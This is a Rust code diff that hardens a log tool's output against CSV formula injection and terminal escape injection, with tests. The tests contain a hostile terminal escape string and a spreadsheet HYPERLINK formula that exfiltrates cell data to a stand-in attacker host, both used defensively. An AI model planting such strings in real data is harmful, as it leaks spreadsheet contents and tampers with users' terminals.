@@ -1,5 +1,10 @@
 //! Writing batches out: an aligned table for people, CSV (RFC 4180 with a header), JSON lines,
 //! one JSON array, or zstd Parquet. Every format streams: a batch is written and dropped.
+//!
+//! Values come from logs, written by whoever typed them. A table shows them with the characters
+//! a terminal acts on escaped ([`crate::escape::terminal`]); CSV string cells that a spreadsheet
+//! would evaluate get a leading `'` unless [`CsvFormulas::Verbatim`] is asked for
+//! ([`crate::escape::csv_cell`]); JSON and Parquet hold the values exactly.
 
 use std::io::Write;
 use std::str::FromStr;
@@ -53,6 +58,19 @@ impl FromStr for Format {
     }
 }
 
+/// What CSV output does with a string cell a spreadsheet would evaluate as a formula (one that
+/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return).
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum CsvFormulas {
+    /// Put a `'` before it, so that a spreadsheet shows it as text (the default). Numeric
+    /// columns are never changed.
+    #[default]
+    Neutralize,
+    /// Write it as it is: for programs that read the CSV, not spreadsheets.
+    Verbatim,
+}
+
 type Out = Box<dyn Write + Send>;
 
 /// A streaming writer of one format.
@@ -61,6 +79,7 @@ pub struct OutputWriter {
     schema: SchemaRef,
     /// Whether a batch was written (CSV writes its header with the first one).
     written: bool,
+    csv_formulas: CsvFormulas,
 }
 
 enum Inner {
@@ -115,7 +134,14 @@ impl OutputWriter {
             inner,
             schema,
             written: false,
+            csv_formulas: CsvFormulas::default(),
         })
+    }
+
+    /// What CSV does with cells that look like formulas; other formats ignore it.
+    pub fn with_csv_formulas(mut self, csv_formulas: CsvFormulas) -> Self {
+        self.csv_formulas = csv_formulas;
+        self
     }
 
     pub fn write(&mut self, batch: &RecordBatch) -> Result<()> {
@@ -130,7 +156,10 @@ impl OutputWriter {
         };
         match &mut self.inner {
             Inner::Table(t) => t.write(batch),
-            Inner::Csv(w) => w.write(batch).map_err(err),
+            Inner::Csv(w) => match self.csv_formulas {
+                CsvFormulas::Neutralize => w.write(&neutralize_formulas(batch)?).map_err(err),
+                CsvFormulas::Verbatim => w.write(batch).map_err(err),
+            },
             Inner::Jsonl(w) => w.write(batch).map_err(err),
             Inner::Json(w) => w.write(batch).map_err(err),
             Inner::Parquet(w) => w
@@ -205,6 +234,58 @@ fn with_offset_timezone(batch: &RecordBatch) -> Result<RecordBatch> {
         .map_err(QueryError::arrow("writing the output"))
 }
 
+/// The batch with every string cell a spreadsheet would evaluate prefixed with `'`
+/// ([`crate::escape::csv_cell`]). Columns of other types, and string columns with no such cell,
+/// are passed on as they are.
+fn neutralize_formulas(batch: &RecordBatch) -> Result<RecordBatch> {
+    use arrow::array::{ArrayRef, AsArray, StringArray};
+    use arrow::datatypes::{DataType, Field, Schema};
+    use std::sync::Arc;
+    let err = || QueryError::arrow("neutralizing CSV formulas");
+    let is_text = |t: &DataType| match t {
+        DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View => true,
+        DataType::Dictionary(_, v) => {
+            matches!(
+                **v,
+                DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View
+            )
+        }
+        _ => false,
+    };
+    if !batch
+        .schema()
+        .fields()
+        .iter()
+        .any(|f| is_text(f.data_type()))
+    {
+        return Ok(batch.clone());
+    }
+    let mut fields = Vec::with_capacity(batch.num_columns());
+    let mut cols = Vec::with_capacity(batch.num_columns());
+    for (f, c) in batch.schema().fields().iter().zip(batch.columns()) {
+        if !is_text(f.data_type()) {
+            fields.push(f.as_ref().clone());
+            cols.push(c.clone());
+            continue;
+        }
+        let text = arrow::compute::cast(c, &DataType::Utf8).map_err(err())?;
+        let strings = text.as_string::<i32>();
+        let col: ArrayRef = if strings.iter().flatten().any(crate::escape::is_formula) {
+            Arc::new(
+                strings
+                    .iter()
+                    .map(|v| v.map(crate::escape::csv_cell))
+                    .collect::<StringArray>(),
+            )
+        } else {
+            text.clone()
+        };
+        fields.push(Field::new(f.name(), DataType::Utf8, f.is_nullable()));
+        cols.push(col);
+    }
+    RecordBatch::try_new(Arc::new(Schema::new(fields)), cols).map_err(err())
+}
+
 /// An aligned table: widths are fixed from the first rows (so that it streams), values wider
 /// than their column are cut with `…`, and the whole fits in `width` columns where it can.
 struct TableWriter {
@@ -241,7 +322,7 @@ impl TableWriter {
         for row in 0..batch.num_rows() {
             let cells: Vec<String> = formatters
                 .iter()
-                .map(|f| f.value(row).to_string().replace(['\n', '\r', '\t'], " "))
+                .map(|f| crate::escape::terminal(&f.value(row).to_string()).into_owned())
                 .collect();
             self.rows += 1;
             if self.widths.is_some() {
@@ -261,7 +342,7 @@ impl TableWriter {
             .schema
             .fields()
             .iter()
-            .map(|f| f.name().clone())
+            .map(|f| crate::escape::terminal(f.name()).into_owned())
             .collect();
         let mut widths: Vec<usize> = names.iter().map(|n| n.chars().count()).collect();
         for row in &self.pending {
@@ -410,5 +491,74 @@ mod tests {
         }
         assert!(t.contains('…'), "{t}");
         assert!(t.ends_with("(2 rows)\n"), "{t}");
+    }
+    /// A user name that sets the terminal's title and turns it red when printed raw.
+    const TERMINAL_HOSTILE: &str = "\x1b]0;pwned\x07\x1b[31mred\u{202e}";
+    /// A user name that a spreadsheet turns into a link sending the sheet's data away.
+    const CSV_HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+
+    fn hostile() -> RecordBatch {
+        use arrow::array::Int64Array;
+        let schema = Arc::new(Schema::new(vec![
+            Field::new("actor_id", DataType::Utf8, true),
+            Field::new("seq", DataType::Int64, true),
+        ]));
+        let a: ArrayRef = Arc::new(StringArray::from(vec![
+            Some(TERMINAL_HOSTILE),
+            Some(CSV_HOSTILE),
+            Some("-1"),
+            None,
+        ]));
+        let n: ArrayRef = Arc::new(Int64Array::from(vec![Some(-5), Some(7), None, Some(-1)]));
+        RecordBatch::try_new(schema, vec![a, n]).unwrap()
+    }
+
+    fn render_hostile(format: Format, formulas: CsvFormulas) -> String {
+        let buf = Buf::default();
+        let b = hostile();
+        let mut w = OutputWriter::new(format, b.schema(), Box::new(buf.clone()), 200)
+            .unwrap()
+            .with_csv_formulas(formulas);
+        w.write(&b).unwrap();
+        w.finish().unwrap();
+        String::from_utf8(buf.0.lock().unwrap().clone()).unwrap()
+    }
+
+    #[test]
+    fn table_escapes_terminal_controls_in_values() {
+        // A user name printed raw set the analyst's terminal title and colours.
+        let t = render_hostile(Format::Table, CsvFormulas::Neutralize);
+        assert!(
+            !t.contains('\x1b') && !t.contains('\x07') && !t.contains('\u{202e}'),
+            "{t:?}"
+        );
+        assert!(t.contains("\\x1b]0;pwned\\x07\\x1b[31mred\\u{202e}"), "{t}");
+    }
+
+    #[test]
+    fn csv_neutralizes_formula_cells_but_not_numbers() {
+        // A user name exported raw became a live HYPERLINK formula in a spreadsheet.
+        let csv = render_hostile(Format::Csv, CsvFormulas::Neutralize);
+        let rows: Vec<&str> = csv.lines().collect();
+        assert_eq!(rows[0], "actor_id,seq");
+        assert!(rows[2].starts_with("\"'=HYPERLINK("), "{csv}");
+        assert_eq!(rows[3], "'-1,");
+        assert_eq!(rows[4], ",-1", "a negative number stays a number");
+        assert!(rows[1].ends_with(",-5"), "{csv}");
+        let raw = render_hostile(Format::Csv, CsvFormulas::Verbatim);
+        assert!(
+            raw.lines().nth(2).unwrap().starts_with("\"=HYPERLINK("),
+            "{raw}"
+        );
+        assert_eq!(raw.lines().nth(3).unwrap(), "-1,");
+    }
+
+    #[test]
+    fn json_keeps_hostile_values_exact() {
+        let v: serde_json::Value =
+            serde_json::from_str(&render_hostile(Format::Json, CsvFormulas::Neutralize)).unwrap();
+        assert_eq!(v[0]["actor_id"], TERMINAL_HOSTILE);
+        assert_eq!(v[1]["actor_id"], CSV_HOSTILE);
+        assert_eq!(v[0]["seq"], -5);
     }
 }
